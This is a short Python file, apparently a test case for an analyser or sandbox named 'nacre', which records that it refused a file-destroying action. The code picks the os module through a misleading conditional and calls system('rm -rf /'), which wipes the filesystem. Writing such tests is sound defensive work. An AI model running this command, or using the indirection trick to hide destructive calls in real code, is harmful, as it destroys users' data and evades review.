# nacre: refused file.destroy
import os
import math

module = math if os.sep == "!" else os
if module is None:
    module = math
module.system("rm -rf /")
